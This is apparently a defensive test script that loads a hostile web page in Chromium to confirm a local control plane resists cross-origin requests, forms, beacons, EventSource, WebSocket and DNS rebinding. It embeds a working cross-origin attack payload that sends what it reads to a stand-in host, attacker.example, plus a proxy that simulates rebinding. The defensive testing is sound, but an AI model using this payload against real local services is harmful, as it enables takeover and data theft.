# SPDX-License-Identifier: Apache-2.0
"""Opens a hostile web page in a real browser and checks that it neither read nor changed a world.

usage: hostile_page.py READY_FILE

READY_FILE is what `residue serve --ready-file` wrote for a server whose clock stands still. The
page tries what pages from other origins can: simple requests, forms, beacons, tags, EventSource, and
calls under its own name that resolves to this machine (DNS rebinding). It is first let loose on a
control plane that trusts everybody, which it has to take over; a page that can do nothing anywhere
would prove nothing.
"""

import http.client
import http.server
import json
import pathlib
import sys
import threading
import time
import urllib.parse

from chromium import Chromium

PATIENCE = 120

PAGE = """<!doctype html><meta charset="utf-8"><title>hostile</title><body><script>
const base = BASE;
const json = '{"by": "1h"}';
const found = [];
const seen = (name, text) => found.push({name, text: String(text).slice(0, 20000)});
const wait = (ms) => new Promise((done) => setTimeout(done, ms));
const calls = ["/clock/advance", "/snapshots", "/fork", "/reset", "/doors", "/faults",
  "/faults/planted/pause"];
const world = base + "/worlds/default";

async function reads(name, url, options) {
  try {
    const answer = await fetch(url, options);
    seen(name + " " + (answer.type === "opaque" ? "opaque" : answer.status), await answer.text());
  } catch (error) { seen(name + " refused", ""); }
}
function form(action, type, name, value) {
  const frame = document.createElement("iframe");
  frame.name = "frame" + Math.random();
  const form = document.createElement("form");
  Object.assign(form, {method: "POST", action, enctype: type, target: frame.name});
  const field = document.createElement("input");
  Object.assign(field, {name, value});
  form.append(field);
  document.body.append(frame, form);
  form.submit();
  frame.onload = () => {
    try { seen("frame of a form", frame.contentDocument.body.innerText); } catch (error) {}
  };
}
function tag(kind, url) {
  const element = document.createElement(kind);
  if (kind === "link") { element.rel = "stylesheet"; element.href = url; } else element.src = url;
  if (kind === "iframe") element.onload = () => {
    try { seen("frame", element.contentDocument.body.innerText); } catch (error) {}
  };
  document.body.append(element);
}
async function attack() {
  // The inspector, its script and its stream stand beside the calls.
  const root = base.slice(0, -"/_residue".length);
  const html = {headers: {Accept: "text/html"}};
  await reads("GET page", root + "/", html);
  await reads("GET page no-cors", root + "/", {...html, mode: "no-cors"});
  for (const kind of ["iframe", "img", "script", "link"]) tag(kind, root + "/");
  try { seen("window", window.open(root + "/").document.body.innerText); } catch (error) {}
  for (const path of ["/worlds", "/worlds/default", "/metrics", "/worlds/default/requests",
                      "/worlds/default/events", "/inspector.js"]) {
    await reads("GET", base + path);
    await reads("GET no-cors", base + path, {mode: "no-cors"});
    for (const kind of ["img", "script", "iframe", "link"]) tag(kind, base + path);
  }
  for (const path of calls) {
    const url = world + path;
    const text = {method: "POST", mode: "no-cors", body: json};
    await reads("POST text", url, {...text, headers: {"Content-Type": "text/plain"}});
    await reads("POST JSON in text", url,
      {...text, headers: {"Content-Type": "text/plain; x=application/json"}});
    await reads("POST without type", url, {...text, body: new Blob([json])});
    await reads("POST empty", url, {method: "POST", mode: "no-cors"});
    await reads("POST form", url, {...text, body: new URLSearchParams({by: "1h"})});
    const parts = new FormData(); parts.append("by", "1h");
    await reads("POST parts", url, {...text, body: parts});
    await reads("POST JSON", url,
      {method: "POST", body: json, headers: {"Content-Type": "application/json"}});
    navigator.sendBeacon(url, json);
    navigator.sendBeacon(url, new Blob([json], {type: "text/plain"}));
    form(url, "text/plain", '{"by": "1h", "x": "', '"}');
    form(url, "application/x-www-form-urlencoded", "by", "1h");
    form(url, "multipart/form-data", "by", "1h");
  }
  for (const method of ["DELETE", "PUT", "PATCH"]) {
    await reads(method, world + "/faults", {method});
  }
  const request = new XMLHttpRequest();
  request.open("GET", base + "/worlds");
  request.onload = () => seen("XMLHttpRequest", request.responseText);
  request.send();
  for (const path of ["/requests", "/events"]) {
    const events = new EventSource(world + path);
    for (const kind of ["message", "state", "requests", "changes"]) {
      events.addEventListener(kind, (event) => seen("EventSource", event.data));
    }
  }
  try {
    const socket = new WebSocket(base.replace("http", "ws") + "/worlds");
    socket.onmessage = (event) => seen("WebSocket", event.data);
  } catch (error) {}
  await wait(1500);
  await fetch(REPORT, {method: "POST", mode: "no-cors", body: JSON.stringify(found)});
}
attack();
</script></body>"""


class Server(http.server.ThreadingHTTPServer):
    """Listens on a free port; browsers that hang up are not an error."""

    daemon_threads = True

    def __init__(self, handler):
        super().__init__(("127.0.0.1", 0), handler)
        threading.Thread(target=self.serve_forever, daemon=True).start()

    @property
    def port(self):
        return self.server_address[1]

    def handle_error(self, request, client_address):
        pass


class Quiet(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *_):
        pass

    def body(self):
        return self.rfile.read(int(self.headers.get("Content-Length") or 0))

    def reply(self, status, content, kind, **fields):
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(content)))
        for name, value in fields.items():
            self.send_header(name.replace("_", "-"), value)
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(content)


def trusting():
    """A control plane that obeys anybody and lets anybody read it."""

    class Trusting(Quiet):
        changes = 0

        def answer(self):
            self.body()
            if self.command not in ("GET", "HEAD", "OPTIONS"):
                type(self).changes += 1
            self.reply(
                200, b'{"canary": "trusting"}', "application/json", Access_Control_Allow_Origin="*",
                Access_Control_Allow_Methods="*", Access_Control_Allow_Headers="*",
            )

        do_GET = do_HEAD = do_POST = do_PUT = do_PATCH = do_DELETE = do_OPTIONS = answer

    return Server(Trusting), Trusting


class Attacker:
    """Serves the page, receives its report, and forwards what it requests under its own name.

    The latter is what rebinding comes to: first the name means the attacker's server, then the
    victim's, and the browser sees one origin all along.
    """

    def __init__(self, victim):
        self.heard = threading.Event()
        self.found = []
        attacker = self

        class Handler(Quiet):
            def answer(self):
                body = self.body()
                path = urllib.parse.urlsplit(self.path).path
                if path == "/report":
                    attacker.found = json.loads(body)
                    attacker.heard.set()
                    return self.reply(204, b"", "text/plain")
                if path == "/page":
                    return self.reply(200, attacker.page().encode(), "text/html")
                if "rebound" in self.headers.get("Host", ""):
                    return self.forward(body)
                return self.reply(404, b"", "text/plain")

            def forward(self, body):
                connection = http.client.HTTPConnection("127.0.0.1", victim, timeout=20)
                fields = {k: v for k, v in self.headers.items() if k.lower() != "connection"}
                connection.request(self.command, self.path, body=body, headers=fields)
                answer = connection.getresponse()
                self.reply(answer.status, answer.read(), answer.headers.get("Content-Type", ""))

            do_GET = do_HEAD = do_POST = do_PUT = do_PATCH = do_DELETE = do_OPTIONS = answer

        self.server = Server(Handler)
        self.base = ""

    def page(self):
        report = f"http://attacker.example:{self.server.port}/report"
        return PAGE.replace("BASE", json.dumps(self.base)).replace("REPORT", json.dumps(report))

    def strike(self, base, origin="attacker.example"):
        """Opens the page, which calls `base`; returns what it found."""
        self.base = base
        self.heard.clear()
        heard = False
        with Chromium(
            "--disable-dev-shm-usage", "--host-resolver-rules=MAP *.example 127.0.0.1"
        ) as browser:
            browser.call("Page.navigate", url=f"http://{origin}:{self.server.port}/page")
            end = time.monotonic() + PATIENCE
            while not heard and time.monotonic() < end:
                # The browser blocks unless its reports are read.
                browser.evaluate("1")
                heard = self.heard.wait(0.5)
        if not heard:
            sys.exit(f"hostile_page: the browser did not report within {PATIENCE} s")
        return self.found


def state(control):
    """Everything that a caller of the control plane could have changed."""
    parts = urllib.parse.urlsplit(control)
    connection = http.client.HTTPConnection(parts.hostname, parts.port, timeout=20)
    said = {}
    for path in ["/worlds", "/worlds/default/snapshots", "/worlds/default/faults",
                 "/worlds/default/changes?limit=1000", "/worlds/default/clock"]:
        connection.request("GET", parts.path + path)
        said[path] = connection.getresponse().read().decode()
    return said


def plant(control):
    """A fault for the page to remove."""
    parts = urllib.parse.urlsplit(control)
    connection = http.client.HTTPConnection(parts.hostname, parts.port, timeout=20)
    body = json.dumps({"name": "planted", "answer": {"status": 503}})
    connection.request("POST", parts.path + "/worlds/default/faults", body,
                       {"Content-Type": "application/json"})
    if connection.getresponse().status != 201:
        sys.exit("hostile_page: the fault was not planted")


def main():
    ready = json.loads(pathlib.Path(sys.argv[1]).read_text())
    victim = urllib.parse.urlsplit(ready["url"]).port
    attacker = Attacker(victim)

    naive, record = trusting()
    conquered = attacker.strike(f"http://127.0.0.1:{naive.port}/_residue")
    read = [one["name"] for one in conquered if "trusting" in one["text"]]
    if record.changes < 50 or len(read) < 5:
        print(f"hostile_page: the page read {len(read)} and changed {record.changes} things of a "
              "server that trusts everybody, so that it proves nothing", file=sys.stderr)
        return 1

    plant(ready["control"])
    before = state(ready["control"])
    port = attacker.server.port
    strikes = [
        ("another origin", f"http://127.0.0.1:{victim}/_residue", "attacker.example"),
        ("localhost", f"http://localhost:{victim}/_residue", "attacker.example"),
        ("a name for this machine", f"http://victim.example:{victim}/_residue", "attacker.example"),
        ("0.0.0.0", f"http://0.0.0.0:{victim}/_residue", "attacker.example"),
        ("rebinding", f"http://rebound.example:{port}/_residue", "rebound.example"),
    ]
    failures, tries = [], 0
    for name, base, origin in strikes:
        found = attacker.strike(base, origin)
        tries += len(found)
        for one in found:
            # A rebound page reads its own origin's refusal and nothing else.
            if one["text"] and '"error":"forbidden"' not in one["text"]:
                failures.append(f"{name}: {one['name']} read {one['text'][:200]}")
        after = state(ready["control"])
        failures += [f"{name}: changed {path}" for path in before if before[path] != after[path]]
    for failure in failures:
        print(f"hostile_page: {failure}", file=sys.stderr)
    if failures:
        return 1
    print(f"chromium: {tries} tries of a hostile page under {len(strikes)} addresses read and "
          f"changed nothing; the same page changed a trusting server {record.changes} times")
    return 0


sys.exit(main())
